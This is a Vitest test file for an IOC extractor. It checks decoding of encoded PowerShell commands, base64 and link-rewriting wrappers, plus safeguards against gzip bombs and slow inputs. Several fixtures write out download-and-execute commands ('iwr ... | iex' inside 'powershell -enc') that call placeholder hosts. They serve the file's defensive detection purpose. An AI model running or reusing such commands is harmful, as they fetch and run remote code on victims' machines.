import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { MAX_DECODED_PIECES, percentDecode, unwrapUrl, urlDefenseV3 } from './decode.js';
import { extractIocs, extractIocsFromText, type IocType } from './index.js';

interface Case {
  name: string;
  layer: string;
  input: string;
  expect: Array<[IocType, string]>;
  layers?: string[];
}
const fixtures = JSON.parse(readFileSync(new URL('./fixtures/decoding.json', import.meta.url), 'utf8')) as { cases: Case[] };

const ps = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

describe('decoding layers (src/ioc/fixtures/decoding.json)', () => {
  for (const c of fixtures.cases) {
    it(`${c.layer}: ${c.name}`, () => {
      const hits = extractIocsFromText(c.input);
      for (const [type, value] of c.expect) {
        const h = hits.find((x) => x.type === type && x.value === value && x.layers !== undefined);
        expect(h, `${type} ${value} among ${hits.map((x) => `${x.type}:${x.value}`).join(' ')}`).toBeDefined();
        expect(h!.layers).toEqual(c.layers ?? expect.arrayContaining([c.layer]));
        expect(h!.layers![0]).toBe(c.layers?.[0] ?? c.layer);
        // the span covers the encoded text it stands for
        expect(h!.end).toBeGreaterThan(h!.start);
      }
    });
  }

  it('a rewritten link keeps the wrapper and links the target to it', () => {
    const text = 'go to https://www.google.com/url?q=https%3A%2F%2Ftarget.example-dl.com%2Fa&sa=D now';
    const hits = extractIocsFromText(text);
    const wrapper = hits.find((h) => h.type === 'url' && h.value.startsWith('https://www.google.com/url'))!;
    const target = hits.find((h) => h.value === 'https://target.example-dl.com/a')!;
    expect(wrapper.layers).toBeUndefined();
    expect(target).toMatchObject({ type: 'url', layers: ['google-redirect'], wrapper: wrapper.value, end: wrapper.end });
    // its span is the part of the wrapper that holds it
    expect(text.slice(target.start, target.end)).toBe('/url?q=https%3A%2F%2Ftarget.example-dl.com%2Fa&sa=D');
    // the wrapper's own host is still reported
    expect(hits.some((h) => h.type === 'domain' && h.value === 'www.google.com')).toBe(true);
  });

  it('the plain copy of an unencoded redirect target is replaced by the linked one, not doubled', () => {
    const hits = extractIocsFromText('https://www.google.com/url?q=http://evil-target.example-x.com/x&sa=D');
    const targets = hits.filter((h) => h.value === 'http://evil-target.example-x.com/x');
    expect(targets).toHaveLength(1);
    expect(targets[0]!.layers).toEqual(['google-redirect']);
  });

  it('the grouped result carries layers and wrapper on the occurrence', () => {
    const r = extractIocs(`cmd /c powershell -enc ${ps("iwr http://grouped.example-cdn.com/x.ps1 | iex")}`, { kind: 'text' });
    expect(r.url[0]!.value).toBe('http://grouped.example-cdn.com/x.ps1');
    expect(r.url[0]!.occurrences[0]).toMatchObject({ layers: ['powershell-enc'] });
  });

  it('decode: false turns the layers off; a type filter still unwraps', () => {
    const text = `powershell -enc ${ps('iwr http://off.example-cdn.com/x')}`;
    expect(extractIocsFromText(text, { decode: false }).some((h) => h.layers)).toBe(false);
    const domains = extractIocsFromText('https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fonly-domain.example-ads.com%2F&data=1', { types: ['domain'] });
    expect(domains.map((h) => h.value).sort()).toEqual(['eur01.safelinks.protection.outlook.com', 'only-domain.example-ads.com']);
    expect(domains.every((h) => h.type === 'domain')).toBe(true);
  });

  it('does not decode what is not encoded: words, hashes, ordinary flags and queries', () => {
    const quiet = [
      'sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 seen',
      'powershell -ExecutionPolicy Bypass -File C:\\x\\run.ps1',
      'grep -e SomethingVeryLongButNotBase64AtAll_file.txt',
      'https://shop.example.com/search?q=shoes&page=2',
      'AbstractSingletonProxyFactoryBeanDefinitionRegistry',
    ];
    for (const t of quiet) expect(extractIocsFromText(t).filter((h) => h.layers), t).toEqual([]);
  });

  it('binary after base64 yields nothing; a gzip bomb is cut off, not expanded', () => {
    const bin = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 97 + 13) & 0xff)).toString('base64');
    expect(extractIocsFromText(`[Convert]::FromBase64String('${bin}')`).filter((h) => h.layers)).toEqual([]);
    const bomb = gzipSync(Buffer.alloc(50_000_000, 0x41)).toString('base64');
    const t0 = performance.now();
    expect(extractIocsFromText(`FromBase64String('${bomb}')`).filter((h) => h.layers)).toEqual([]);
    expect(performance.now() - t0).toBeLessThan(2000);
  });

  it('nesting is bounded: base64 of base64 of … stops after three layers', () => {
    let inner = 'http://deep.example-cdn.com/x';
    for (let i = 0; i < 6; i++) inner = `echo ${Buffer.from(inner).toString('base64')} | base64 -d`;
    // only base64 URLs are decoded outside PowerShell, so wrap each level in -enc instead
    let s = 'iwr http://deep.example-cdn.com/x';
    const depths: number[] = [];
    for (let d = 1; d <= 5; d++) {
      s = `powershell -enc ${ps(s)}`;
      const h = extractIocsFromText(s).find((x) => x.type === 'url');
      depths.push(h?.layers?.length ?? 0);
    }
    expect(depths).toEqual([1, 2, 3, 0, 0]);
    void inner;
  });

  it('the number of decoded pieces per call is bounded', () => {
    const one = `powershell -enc ${ps('iwr http://many.example-cdn.com/x')}`;
    const text = Array.from({ length: MAX_DECODED_PIECES + 20 }, () => one).join('\n');
    const decoded = extractIocsFromText(text).filter((h) => h.type === 'url' && h.layers);
    expect(decoded.length).toBe(MAX_DECODED_PIECES);
  });

  it('adversarial encoded-looking inputs stay linear (1 MB each)', () => {
    const inputs = [
      '-e '.repeat(350_000),
      `-enc ${'A'.repeat(1_000_000)}`,
      '%3A%2F%2F'.repeat(110_000),
      'http%3A%2F%2F'.repeat(80_000),
      'aHR0cDovL'.repeat(110_000),
      'https://x.example.com/?u='.repeat(40_000),
      'https://x.example.com/r?u=https%3A%2F%2Fy.example.com%2F '.repeat(18_000),
      'https://www.google.com/url?q=http://evil.example.com/x&sa=D '.repeat(17_000),
      `https://urldefense.com/v3/__${'*'.repeat(1_000_000)}__;!!`,
    ];
    for (const text of inputs) {
      // against the same text without decoding, so a loaded machine slows both alike
      const t0 = performance.now();
      extractIocsFromText(text, { decode: false });
      const plain = performance.now() - t0;
      const t1 = performance.now();
      extractIocsFromText(text);
      expect(performance.now() - t1, text.slice(0, 20)).toBeLessThan(4 * plain + 1500);
    }
  });
});

describe('unwrapUrl and friends', () => {
  it('percentDecode handles UTF-8 and keeps invalid escapes', () => {
    expect(percentDecode('a%20b%E2%82%AC%zz%4')).toBe('a b€%zz%4');
  });
  it('URL Defense v3: * and ** runs take the decoded characters in order', () => {
    expect(urlDefenseV3('https://urldefense.com/v3/__https://x.example.com/a*b**Ac__;JiMkJQ!!x$')).toBe('https://x.example.com/a&b#$c');
    expect(urlDefenseV3('https://urldefense.com/v3/__not-a-url__;!!x$')).toBeUndefined();
  });
  it('a query value that is not a URL unwraps to nothing', () => {
    expect(unwrapUrl('https://shop.example.com/?next=%2Fcart&q=http')).toEqual([]);
  });
});
